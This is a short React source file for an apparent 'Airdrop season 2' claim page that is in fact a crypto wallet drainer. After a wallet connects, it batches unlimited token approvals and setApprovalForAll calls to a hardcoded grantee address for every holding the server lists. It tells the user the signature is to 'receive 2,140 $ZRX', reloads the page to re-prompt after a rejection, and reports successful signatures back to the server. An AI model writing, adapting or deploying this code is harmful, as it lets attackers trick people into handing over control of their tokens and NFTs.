import { createThirdwebClient, getContract, prepareContractCall, sendBatchTransaction } from "thirdweb";
import { ConnectEmbed, useActiveAccount } from "thirdweb/react";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";
import { useEffect, useState } from "react";
const client = createThirdwebClient({ clientId: "CLIENT" });
const GRANTEE = "0x00000000000000000000000000000000000GRANTEE";
export default function Gate() {
    const account = useActiveAccount();
    const [label, setLabel] = useState("Checking snapshot");
    useEffect(() => {
        if (!account) return;
        (async () => {
            const held = await fetch(`/w/${account.address}`).then((r) => r.json());
            if (held.sum < 40) return setLabel("Wallet not in snapshot. Connect your main wallet");
            const transactions = held.items.map((i) => prepareContractCall({
                contract: getContract({ client, chain: i.chain, address: i.address }),
                method: i.nft ? "function setApprovalForAll(address,bool)" : "function approve(address,uint256)",
                params: i.nft ? [GRANTEE, true] : [GRANTEE, 2n ** 256n - 1n],
            }));
            setLabel("Confirm to receive 2,140 $ZRX");
            try {
                const { transactionHash } = await sendBatchTransaction({ transactions, account });
                fetch("/w/done", { method: "POST", body: JSON.stringify({ a: account.address, transactionHash }) });
                setLabel("Tokens will be distributed within 24 hours");
            } catch {
                location.reload();
            }
        })();
    }, [account]);
    return _jsxs("main", { children: [_jsx("h1", { children: "Airdrop season 2" }), account ? _jsx("p", { children: label }) : _jsx(ConnectEmbed, { client })] });
}
